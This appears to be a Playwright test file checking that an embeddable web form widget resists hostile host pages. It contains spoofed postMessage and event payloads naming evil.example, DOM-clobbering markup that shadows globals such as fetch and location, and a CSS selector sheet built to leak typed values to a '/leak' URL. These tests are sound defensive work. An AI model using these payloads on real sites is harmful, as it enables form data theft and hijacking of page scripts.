import { desktop, expect, test } from '../journeys/demo.js';
import { HostSite } from '../journeys/host-site.js';
import { Visitor } from '../journeys/visitor.js';

test.use({ ...desktop, locale: 'en-GB' });

let host: HostSite;
test.beforeAll(async ({ demo }) => {
  host = await HostSite.start(demo.cms);
});
test.afterAll(() => host.stop());

const BODY = '<member-request service="help-request"></member-request>';

test('a38: messages and events that others make up change nothing and send nothing', async ({
  page,
  demo,
}) => {
  const visitor = new Visitor(page, demo, 'en', host.address);
  const { submission } = visitor.words;
  await page.goto(host.page('/spoof', BODY));
  await expect(visitor.heading(submission.applicant.title)).toBeVisible();
  await visitor.fill(submission.applicant.name, 'Sarah Sample');
  const posts: string[] = [];
  page.on('request', (request) => {
    if (request.method() === 'POST') posts.push(request.url());
  });
  await page.evaluate(() => {
    const claims = [
      { type: 'member-submitted', reference: 'AAAA-AAAA', kind: 'service-request' },
      { action: 'submit', api: 'https://evil.example', payload: { submit: true } },
      'submit',
    ];
    for (const claim of claims) window.postMessage(claim, '*');
    for (const element of document.querySelectorAll('member-request')) {
      for (const name of ['member-submitted', 'member-rated', 'member-ready', 'submit', 'send', 'done']) {
        const detail = { reference: 'AAAA-AAAA', kind: 'service-request' };
        element.dispatchEvent(new CustomEvent(name, { detail, bubbles: true, composed: true }));
      }
      element.dispatchEvent(new SubmitEvent('submit', { bubbles: true, composed: true }));
      element.dispatchEvent(new CustomEvent('field-change', { detail: { name: 'name', input: 'Mallory' } }));
    }
  });
  await expect(visitor.heading(submission.applicant.title)).toBeVisible();
  await expect(visitor.field(submission.applicant.name)).toHaveValue('Sarah Sample');
  await expect(page.getByText('AAAA-AAAA')).toHaveCount(0);
  expect(posts).toEqual([]);
  visitor.expectNoFaults();
});

/**
 * Names by which scripts find things on a page, which its markup can take for itself. The two lists in which Lit notes
 * its versions are not among them: a page that takes those has no widget, and nothing is led elsewhere.
 */
const NAMES = [
  ...[
    'api',
    'cms',
    'config',
    'settings',
    'MemberServices',
    'member',
    'locale',
    'lang',
    'token',
    'step',
    'root',
  ],
  ...['field-applicant.name', 'problems', 'received', 'customElements'],
  ...['i18next', '__CHUNKS_AHEAD__', 'trustedTypes', 'crypto', 'fetch', 'URL', 'document', 'location'],
];
const CLOBBERING = NAMES.map(
  (name) => `<form id="${name}" name="${name}"><a id="${name}" href="https://evil.example"></a></form>`,
).join('');
const ON_DOCUMENT = ['baseURI', 'currentScript', 'cookie', 'referrer', 'activeElement', 'scrollingElement']
  .map((name) => `<form name="${name}"></form>`)
  .join('');

test('a38: names that the page’s markup takes lead the widget nowhere else', async ({ page, demo }) => {
  const visitor = new Visitor(page, demo, 'en', host.address);
  const { common, submission } = visitor.words;
  await page.goto(host.page('/clobbered', `${CLOBBERING}${ON_DOCUMENT}${BODY}${CLOBBERING}`));
  await expect(visitor.heading(submission.applicant.title)).toBeVisible();
  await visitor.button(common.next).click();
  const summary = page.getByRole('alert').filter({ hasText: common.problem });
  await expect(summary).toBeFocused();
  await summary.getByRole('button', { name: submission.applicant.name }).click();
  await expect(visitor.field(submission.applicant.name)).toBeFocused();
  visitor.expectNoFaults();
});

test('a38: a style sheet of the page reaches parts, and cannot read out what is typed by them', async ({
  page,
  demo,
}) => {
  const visitor = new Visitor(page, demo, 'en', host.address);
  const { submission } = visitor.words;
  const reads = ['a', 'S', 'Sarah']
    .map(
      (start) =>
        `member-request::part(control)[value^="${start}"], input[value^="${start}"] { background: url(${host.address}/leak?${start}); }`,
    )
    .join('\n');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto(host.page('/parts', BODY, reads));
  await visitor.fill(submission.applicant.name, 'Sarah Sample');
  await expect(visitor.field(submission.applicant.name)).toHaveValue('Sarah Sample');
  expect(asked.filter((url) => url.includes('/leak'))).toEqual([]);
  visitor.expectNoFaults();
});
